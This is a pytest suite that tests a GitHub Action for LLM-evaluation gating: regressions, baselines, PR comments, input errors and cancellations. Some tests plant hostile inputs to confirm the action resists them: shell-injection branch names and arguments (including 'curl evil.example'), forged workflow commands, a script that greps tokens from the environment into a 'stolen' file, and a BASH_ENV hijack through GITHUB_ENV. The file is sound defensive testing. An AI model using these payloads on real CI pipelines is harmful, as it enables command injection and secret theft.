"""The action from its first step to its gate, as a pull request's job runs it."""

from __future__ import annotations

import copy
import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.action.conftest import KEY, SHA, Shop


def test_a_regression_against_mains_newest_run_is_red_and_told(shop: Shop) -> None:
    shop.record()
    pushed = shop.push()
    assert pushed.conclusion == "success", pushed.log
    asked = len(shop.provider.requests)
    shop.forget_recordings()
    shop.file("prompt.txt", "In short: ")
    job = shop.pull_request()
    assert job.conclusion == "failure", job.log
    assert [step.name for step in job.steps if step.outcome == "failure"] == ["Gate"], job.log
    assert job.outputs["conclusion"] == "regression"
    assert job.outputs["baseline-sha"] == "a" * 40
    assert job.outputs["exit-code"] == "1"
    assert (job.outputs["total"], job.outputs["passed"], job.outputs["regressed"]) == ("12", "12", "1")
    assert float(job.outputs["cost-usd"]) > 0
    assert len(shop.provider.requests) == 2 * asked
    (comment,) = shop.hub.comments[7]
    assert job.outputs["comment-url"] == comment["html_url"]
    assert "regressed" in comment["body"]
    assert f"https://github.com/octo/shop/commit/{'a' * 40}" in comment["body"]
    assert "facts" in job.summary
    assert json.loads((shop.hub.members(shop.runs, "llm-report"))["run.json"])["schema"] == 1
    told = comment["body"]
    commented = shop.comment_job(shop.runs)  # the second workflow runs for this repository's own pull requests, too
    assert commented.outputs["comment-url"] == comment["html_url"], commented.log
    assert comment["body"] == told
    assert not any(request.method == "PATCH" for request in shop.hub.requests), "nothing to bring up to date"
    shop.runs -= 1
    assert job.outputs["report-url"].endswith(str(shop.hub.artifacts[shop.runs][0]["id"]))


def test_what_a_model_says_is_no_command_and_what_an_input_says_is_no_script(shop: Shop) -> None:
    said = "::error title=forged::by the model%0A\n::set-output name=conclusion::success\n::stop-commands::x"
    shop.file(
        "test_said.py",
        """
        import os, pytest

        @pytest.mark.llm_eval
        def test_said(llm_eval):
            print(os.environ["SAID"])
            print("TOKEN", [name for name, value in os.environ.items() if value == "ghs_workflow"])
            print("INPUTS", [name for name in os.environ if name.startswith("LLMOPS_")])
            assert llm_eval.run(lambda: os.environ["SAID"]).text == ""
        """,
    )
    job = shop.pull_request(
        branch='a"; curl evil.example; echo "$(touch pwned)`touch pwned`',
        env={"SAID": said, "GITHUB_TOKEN": "ghs_workflow"},
        inputs={
            "paths": "test_said.py $(touch${IFS}pwned) `touch pwned` 'a; touch pwned'",
            "pytest-args": '-k "said" -rA --color=no; touch pwned && touch pwned',
        },
    )
    assert job.conclusion == "failure"
    assert not list(shop.folder.parent.rglob("pwned"))
    assert "forged" not in str([command for command in job.commands if command.name == "error" and command.options])
    assert not [command for command in job.commands if command.name in ("set-output", "stop-commands")]
    # Arguments that name no file are an error of the call; without them the test runs.
    assert job.outputs["conclusion"] == "error"
    job = shop.pull_request(
        inputs={"paths": "test_said.py", "pytest-args": "-rA"}, env={"SAID": said, "GITHUB_TOKEN": "ghs_workflow"}
    )
    assert job.outputs["conclusion"] == "failure", job.log
    assert "::error title=forged::" in job.step("Test").log
    assert "TOKEN []" in job.step("Test").log
    assert "INPUTS []" in job.step("Test").log
    assert not [one for one in job.annotations() if one.options.get("title") == "forged"]
    assert job.outputs["comment-url"]


def test_a_wrong_input_is_named_before_anything_runs(shop: Shop, main: Shop) -> None:
    assert shop.pull_request().outputs["conclusion"] == "success"
    asked = len(shop.provider.requests)
    job = shop.pull_request(inputs={"mode": "relpay"})
    assert job.conclusion == "failure"
    said = "input mode: 'relpay' is not one of: auto, replay, live. Did you mean 'replay'?"
    assert [error.message for error in job.annotations()] == [said, f"error: {said}"], "where it was met, and the gate"
    skipped = {step.name for step in job.steps if step.outcome == "skipped"}
    assert {"Find the baseline", "Test", "Upload new recordings"} <= skipped
    assert job.outputs["conclusion"] == "error"
    assert len(shop.provider.requests) == asked
    (comment,) = shop.hub.comments[7]
    assert "relpay" in comment["body"], "it does not stay green"
    assert "relpay" in job.summary


def test_a_wrong_comment_input_writes_no_comment(shop: Shop) -> None:
    job = shop.pull_request(inputs={"comment": "nver"})
    assert (job.conclusion, job.outputs["conclusion"]) == ("failure", "error")
    assert not shop.hub.comments


def test_a_python_that_cannot_be_is_told(shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    tools = tmp_path / "tools"
    tools.mkdir()
    (tools / "bash").symlink_to(str(shutil.which("bash")))
    monkeypatch.setenv("PATH", str(tools))  # without uv
    job = shop.pull_request(inputs={"python": ".venv/bin/python"})
    assert job.conclusion == "failure"
    assert "no Python of 3.11 or newer with pip" in job.annotations()[0].message, job.log
    assert "input python" in job.annotations()[0].message


def test_pull_request_target_is_refused_before_anything_of_the_checkout_could_run(shop: Shop) -> None:
    shop.file("pip.py", "open('pwned', 'w')\n")
    job = shop.use("pull_request_target", {})
    assert "does not run on pull_request_target" in job.annotations()[0].message
    assert [step.name for step in job.steps if step.outcome != "skipped"] == ["Refuse pull_request_target"]
    installed = shop.pull_request()
    assert installed.step("Install pytest-llmops").outcome == "success", installed.log
    assert not (shop.folder / "pwned").exists()


def test_a_baseline_that_is_not_there_is_told_with_the_command_that_makes_it(shop: Shop) -> None:
    job = shop.pull_request(inputs={"baseline": "file"})
    assert (job.conclusion, job.outputs["conclusion"]) == ("failure", "error")
    for text in (job.step("Gate").log, shop.hub.comments[7][0]["body"]):
        assert "here is no baseline at baseline.json" in text
    assert job.step("Test").outcome == "skipped"


def test_a_crash_is_told_and_keeps_nothing_from_being_uploaded(shop: Shop) -> None:
    shop.file("test_shop.py", "import nothing_of_this_name\n")
    job = shop.pull_request()
    assert job.conclusion == "failure"
    assert (job.outputs["conclusion"], job.outputs["exit-code"]) == ("error", "2"), job.log
    assert "could not collect the tests" in job.step("Gate").log
    (comment,) = shop.hub.comments[7]
    assert "could not collect the tests" in comment["body"]
    assert set(shop.hub.members(shop.runs, "llm-report")) == {"junit.xml", "view.json"}
    never = shop.pull_request(inputs={"fail-on": "never", "comment": "never"})
    assert (never.conclusion, never.outputs["conclusion"]) == ("success", "error")


def test_a_run_without_llm_tests_is_told(shop: Shop) -> None:
    shop.file("test_shop.py", "import sys\n\ndef test_plain():\n    sys.__stdout__.write('no end of line')\n")
    job = shop.pull_request(inputs={"pytest-args": "-s"})
    assert (job.conclusion, job.outputs["conclusion"], job.outputs["report-json"]) == ("success", "success", "")
    assert "No LLM evaluation ran" in job.annotations("warning")[0].message
    assert "No LLM evaluation ran" in job.summary
    assert not shop.hub.comments


def test_a_comment_that_may_not_be_written_is_a_warning(shop: Shop) -> None:
    shop.hub.tokens["ghs_workflow"].write.clear()
    job = shop.pull_request()
    assert job.conclusion == "success", job.log
    (warning,) = job.annotations("warning")
    assert "permissions need `pull-requests: write`" in warning.message
    assert job.outputs["comment-url"] == ""


def test_what_the_pull_request_itself_accepts_counts(shop: Shop, main: Shop) -> None:
    shop.file("prompt.txt", "In short: ")
    shop.file(
        "llm-accept.toml",
        """
        [[accept]]
        metric = "facts"
        reason = "short answers are wanted"
        expires = 2999-12-31
        by = "Ana"
        """,
    )
    job = shop.pull_request()
    assert (job.conclusion, job.outputs["regressed"]) == ("success", "0"), job.log
    (comment,) = shop.hub.comments[7]
    for words in ("facts", "short answers are wanted", "Ana", "2999-12-31"):
        assert words in comment["body"]


def test_a_case_taken_out_of_a_dataset_counts_and_is_told(shop: Shop, main: Shop) -> None:
    shop.cases(11)
    shop.hub.files[7] = ["cases.jsonl"]
    job = shop.pull_request()
    assert (job.conclusion, job.outputs["conclusion"], job.outputs["removed"]) == ("success", "success", "1"), job.log
    (comment,) = shop.hub.comments[7]
    row = (
        "| case <code>test_shop.py::test_shop[c11]</code> | taken out of <code>cases.jsonl</code> | this pull request "
        "| the baseline is made anew | 1 change |"
    )
    assert row in comment["body"]
    assert "datasets: <code>cases.jsonl</code>" in comment["body"]
    assert "missing, although" not in comment["body"]
    # The run's record says the same to whoever compares it once more.
    run, baseline = (shop.folder.parent / name for name in ("run.json", "baseline.json"))
    run.write_bytes(shop.hub.members(shop.runs, "llm-report")["run.json"])
    made_of = shop.folder.parent / "pushed.json"
    made_of.write_bytes(shop.hub.members(shop.runs - 1, "llm-report")["run.json"])
    assert command(shop, "baseline", "update", str(made_of), "-o", str(baseline)).returncode == 0
    compared = command(shop, "compare", str(baseline), str(run))
    assert compared.returncode == 0, compared.stdout
    assert "1 case missing (taken out of cases.jsonl)" in compared.stdout
    # After the merge main's own run goes without it, and is what the next pull request is compared with.
    pushed = shop.push()
    assert (pushed.conclusion, pushed.outputs["removed"]) == ("success", "1"), pushed.log
    shop.hub.files[7] = []
    job = shop.pull_request()
    assert (job.outputs["conclusion"], job.outputs["removed"]) == ("success", "0"), job.log


def command(shop: Shop, *arguments: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "pytest_llmops", *arguments],
        cwd=shop.folder,
        capture_output=True,
        text=True,
        check=False,
    )


def test_a_case_that_its_dataset_has_and_its_test_lost_is_red(shop: Shop, main: Shop) -> None:
    shop.file(
        "conftest.py",
        """
        def pytest_collection_modifyitems(items):
            items[:] = [item for item in items if "c11" not in item.name]
        """,
    )
    shop.hub.files[7] = ["cases.jsonl", "conftest.py"]
    job = shop.pull_request()
    assert (job.outputs["conclusion"], job.outputs["removed"]) == ("regression", "1"), job.log
    assert "missing, although its test ran" in shop.hub.comments[7][0]["body"]


def test_a_committed_baseline_that_still_has_the_case_blocks_nobody(shop: Shop, main: Shop) -> None:
    made = shop.use("workflow_dispatch", {}, env=KEY, inputs={"update-baseline": "true"})
    assert made.conclusion == "success", made.log
    shop.cases(11)
    job = shop.pull_request(inputs={"baseline": "file"})  # taken out by an earlier pull request
    assert (job.outputs["conclusion"], job.outputs["removed"]) == ("success", "1"), job.log
    assert "| an earlier change |" in shop.hub.comments[7][0]["body"]


def test_advice_names_the_projects_own_files(shop: Shop, main: Shop) -> None:
    shop.file("app.py", (shop.folder / "app.py").read_text().replace('["content"]', '["content"][:3]'))
    where = {"baseline-path": "evals/base line.json"}
    job = shop.pull_request(inputs=where)
    assert job.outputs["baseline-sha"], job.log
    stores = "pytest --llm-baseline='evals/base line.json' --llm-update-baseline"
    assert [one.message for one in job.annotations() if "Meant?" in one.message]
    for said in (job.step("Test").log, *(one.message for one in job.annotations())):
        assert all(line.endswith(stores) for line in said.splitlines() if "Meant?" in line)
    body = shop.hub.comments[7][0]["body"]
    assert "Accept it in <code>llm-accept.toml</code>" in body
    assert f"<code>{stores}</code>" in body
    shop.comment_job(shop.runs, inputs=where)
    assert shop.hub.comments[7][0]["body"] == body


def test_an_edited_committed_baseline_counts_before_mains_run(shop: Shop, main: Shop) -> None:
    shop.file("prompt.txt", "In short: ")
    shop.record()
    made = shop.use("workflow_dispatch", {}, env=KEY, inputs={"update-baseline": "true"})
    assert made.conclusion == "success", made.log
    assert (shop.folder / "baseline.json").is_file()
    shop.hub.files[7] = ["baseline.json", "prompt.txt"]
    job = shop.pull_request()
    assert (job.outputs["conclusion"], job.outputs["baseline-sha"]) == ("success", ""), job.log
    assert "baseline.json" in shop.hub.comments[7][0]["body"]


QUIET = {"comment": "on-change", "fail-on": "failure", "annotate": "false", "junit-path": "out/junit.xml"}


def test_first_comments_on_change_only_where_something_changed(shop: Shop, main: Shop) -> None:
    same = shop.pull_request(inputs={"comment": "on-change"})
    assert same.conclusion == "success", same.log
    assert not shop.hub.comments
    shop.file("prompt.txt", "In short: ")
    worse = shop.pull_request(inputs=QUIET)
    assert (shop.folder / "out/junit.xml").is_file()
    assert not worse.annotations()
    assert (worse.conclusion, worse.outputs["conclusion"]) == ("success", "regression"), worse.log
    assert len(shop.hub.comments[7]) == 1
    shop.file("prompt.txt", "Answer: ")
    mended = shop.pull_request(inputs={"comment": "on-change"})
    assert mended.conclusion == "success"
    (comment,) = shop.hub.comments[7]
    assert "regressed" not in comment["body"].splitlines()[0]


def test_an_older_commits_run_leaves_the_comment_of_a_newer_one_alone(shop: Shop, main: Shop) -> None:
    newer = shop.pull_request(sha="d" * 40)
    (comment,) = shop.hub.comments[7]
    told = comment["body"]
    late = copy.deepcopy(shop.hub.pulls[7])
    late["head"]["sha"] = SHA
    shop.file("app.py", (shop.folder / "app.py").read_text().replace('["content"]', '["content"][:3]'))
    job = shop.use("pull_request", {"pull_request": late}, env=KEY)
    assert (newer.conclusion, job.outputs["conclusion"]) == ("success", "regression"), job.log
    assert comment["body"] == told
    assert f"The pull request is at {'d' * 10} by now" in job.step("Report").log
    assert job.outputs["comment-url"] == ""
    shop.hub.refuse("GET", r"/pulls/7$", 403, "Resource not accessible by integration")
    shop.use("pull_request", {"pull_request": late}, env=KEY)
    assert "regressed" in comment["body"], "where GitHub does not say, the run's word counts"


def test_an_update_of_the_baseline_shows_the_comparison_and_fails_nothing(shop: Shop, main: Shop) -> None:
    update = {"update-baseline": "true"}
    assert shop.use("workflow_dispatch", {}, env=KEY, inputs=update).outputs["conclusion"] == "success"
    before = (shop.folder / "baseline.json").read_text()
    shop.file("app.py", (shop.folder / "app.py").read_text().replace('["content"]', '["content"][:3]'))
    job = shop.pull_request(inputs=update)
    assert (job.conclusion, job.outputs["conclusion"], job.outputs["regressed"]) == ("success", "success", "1"), job.log
    assert (shop.folder / "baseline.json").read_text() != before
    first = shop.hub.comments[7][0]["body"].splitlines()[0]
    assert "facts regressed" in first
    assert "the baseline is written from this run" in first
    assert not job.annotations()
    assert "before: Yes: fact0." in shop.hub.comments[7][0]["body"], "what it was before it was written"
    shop.file("test_shop.py", (shop.folder / "test_shop.py").read_text().replace("assert result.text", "assert 0"))
    assert shop.pull_request(inputs=update).outputs["conclusion"] == "failure"


def test_tests_have_no_file_that_sets_the_environment_of_the_steps_after_them(shop: Shop, main: Shop) -> None:
    script, stolen = shop.file("evil.sh", "env | grep TOKEN >>stolen\n"), shop.folder / "stolen"
    shop.file(
        "conftest.py",
        f"""
        import os

        found = [name for name in ("ENV", "PATH", "OUTPUT", "STATE") if "GITHUB_" + name in os.environ]
        for name in found:
            with open(os.environ["GITHUB_" + name], "a") as file:
                file.write("BASH_ENV={script}\\nfolder=/elsewhere\\n")
        """,
    )
    job = shop.pull_request()
    assert job.outputs["conclusion"] == "success", job.log
    assert not stolen.exists()
    assert (job.step("Test").outputs, script.exists()) == ({}, True)


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("pyproject.toml", "[tool.pytest-llmops]\nbogus = 1\n", "bogus"),
        ("pyproject.toml", "[tool.pytest-llmops\n", "pyproject.toml"),
        ("llm-accept.toml", "[[accept]\n", "llm-accept.toml"),
        ("baseline.json", "{}", "baseline.json"),
    ],
)
def test_a_file_that_cannot_be_read_is_told_wherever_the_run_is_told(
    shop: Shop, main: Shop, name: str, text: str, said: str
) -> None:
    shop.hub.comment(7, "github-actions[bot]", "### ✅ all is well\n<!-- pytest-llmops:default -->")
    shop.file(name, text)
    shop.hub.files[7] = [name]
    job = shop.pull_request()
    assert (job.conclusion, job.outputs["conclusion"], job.outputs["total"]) == ("failure", "error", "0"), job.log
    (comment,) = shop.hub.comments[7]
    assert "✅" not in comment["body"]
    for place in (comment["body"], job.summary, job.step("Gate").log):
        assert said in place
        assert ".. The job's log" not in place
    assert job.step("Test").outcome == "skipped"
    assert "Traceback" not in job.log


def test_a_junit_path_that_cannot_be_written_keeps_nothing_from_being_told(shop: Shop, main: Shop) -> None:
    job = shop.pull_request(inputs={"junit-path": "prompt.txt/junit.xml"})
    assert (job.conclusion, job.outputs["conclusion"], job.outputs["passed"]) == ("failure", "error", "12"), job.log
    for place in (shop.hub.comments[7][0]["body"], job.summary, job.step("Gate").log):
        assert "junit-path: prompt.txt/junit.xml could not be written" in place
    assert set(shop.hub.members(shop.runs, "llm-report")) >= {"run.json", "view.json"}
    part = shop.pull_request(inputs={"junit-path": "prompt.txt/junit.xml", "shard": "1/1"})
    assert part.conclusion == "failure", part.log


KILLED = """
    import os, signal

    def pytest_runtest_logreport(report):
        if "c5" in report.nodeid:
            os.kill(os.getppid(), signal.SIGKILL)
            os._exit(9)
"""


def test_a_cancelled_run_says_so_and_leaves_the_comment_alone(shop: Shop, main: Shop) -> None:
    shop.file("conftest.py", KILLED)
    job = shop.pull_request(cancel="Test")
    assert (job.outputs["conclusion"], job.outputs["exit-code"]) == ("error", ""), job.log
    for place in (job.summary.lower(), job.step("Gate").log):
        assert "the run was cancelled, or ran out of time" in place
    shop.comment_job(shop.runs)
    assert not shop.hub.comments, "no first comment"
    shop.hub.comment(7, "github-actions[bot]", "as it was <!-- pytest-llmops:default -->")
    shop.pull_request(cancel="Test")
    shop.comment_job(shop.runs)
    assert shop.hub.comments[7][0]["body"].startswith("as it was"), "and none that is replaced"


def test_a_run_that_is_killed_is_told_as_such(shop: Shop, main: Shop) -> None:
    shop.file("conftest.py", KILLED)
    job = shop.pull_request()
    assert (job.conclusion, job.outputs["conclusion"]) == ("failure", "error"), job.log
    assert "Pytest did not come to its end" in shop.hub.comments[7][0]["body"]
    assert "internal error" not in shop.hub.comments[7][0]["body"]


def test_a_run_that_is_cancelled_after_its_tests_tells_what_they_found(shop: Shop, main: Shop) -> None:
    job = shop.pull_request(cancel="Find the baseline", inputs={"comment": "never"})
    assert job.outputs["conclusion"] == "error", "there were none"
    shop.file("app.py", (shop.folder / "app.py").read_text().replace('["content"]', '["content"][:3]'))
    job = shop.pull_request(cancel="Test")  # by itself, this test step comes to its end
    assert job.outputs["conclusion"] == "regression", job.log
    assert "regressed" in shop.hub.comments[7][0]["body"]
